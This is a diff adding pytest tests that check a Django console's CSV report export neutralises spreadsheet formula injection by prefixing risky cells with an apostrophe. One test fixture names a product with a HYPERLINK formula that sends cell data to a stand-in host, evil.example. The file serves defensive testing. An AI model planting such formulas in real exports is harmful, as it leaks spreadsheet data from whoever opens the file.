@@ -216,3 +216,28 @@ def test_only_supervisors_and_admins_see_reports(fixture, sue_client, product):
         response = sue_client.get("/console/reports/data.json" + bad)
         assert response.status_code == 400 and response.json()["error"]["code"] == "invalid", bad
     assert sue_client.get("/console/reports/nope.csv").status_code == 400
+
+
+@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"])
+def test_a_cell_that_a_spreadsheet_would_run_is_neutralised(text):
+    from escalation.reports_views import csv_cell
+
+    assert csv_cell(text) == "'" + text
+    assert csv_cell("companion-a") == "companion-a" and csv_cell(-3) == -3 and csv_cell(1.5) == 1.5
+
+
+def test_a_product_named_like_a_formula_is_exported_as_text(db, sue_client_only):
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    product = Product.objects.create(name=formula)
+    rows = csv_of(sue_client_only.get(f"/console/reports/incidents.csv?product={product.pk}"))
+    assert {row[1] for row in rows[1:]} == {"'" + formula}
+    rows = csv_of(sue_client_only.get("/console/reports/referrals-2026.csv"))
+    assert {row[1] for row in rows[1:]} == {"'" + formula}
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
+
+
+@pytest.fixture
+def sue_client_only(db):
+    client = Client()
+    client.force_login(supervisor("sue-3"))
+    return client
